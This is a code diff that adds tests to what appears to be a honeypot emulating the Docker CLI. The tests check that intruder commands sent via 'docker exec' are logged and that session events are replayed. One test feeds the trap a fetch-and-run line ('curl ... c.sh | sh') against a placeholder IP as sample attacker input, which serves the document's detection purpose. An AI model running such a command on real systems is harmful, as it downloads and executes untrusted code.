@@ -78,6 +78,22 @@ describe('trap: real docker CLI', () => {
     expect(indicators(t, 'ipv4')).toContain('192.0.2.10');
   });
 
+  it('docker exec -i reads a script on stdin, answers it and exits 0', async () => {
+    const r = await dockerAsync(env, ['exec', '-i', 'cache', 'sh'], 'whoami\ncurl -s http://198.51.100.61/c.sh | sh\n');
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe('root\n');
+    expect(t.eventsOf('trap.command.observed').filter((e) => e.field === 'stdin' && e.exec !== undefined).map((e) => e.command))
+      .toEqual(['whoami', 'curl -s http://198.51.100.61/c.sh', 'sh']);
+  });
+
+  it('docker events replays what this session did, like the engine event stream', async () => {
+    const r = await dockerAsync(env, ['events', '--since', '10m', '--until', '0s', '--format', '{{.Type}} {{.Action}}']);
+    expect(r.code).toBe(0);
+    const lines = r.stdout.trim().split('\n');
+    expect(lines).toEqual(expect.arrayContaining(['image pull', 'container create', 'container start', 'container die', 'container destroy']));
+    expect(lines.some((l) => l.startsWith('container exec_create: sh -c id;'))).toBe(true);
+  });
+
   it('docker cp uploads a tar whose members and hashes are recorded', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'pcl-trap-cp-'));
     const file = join(dir, 'init.sh');
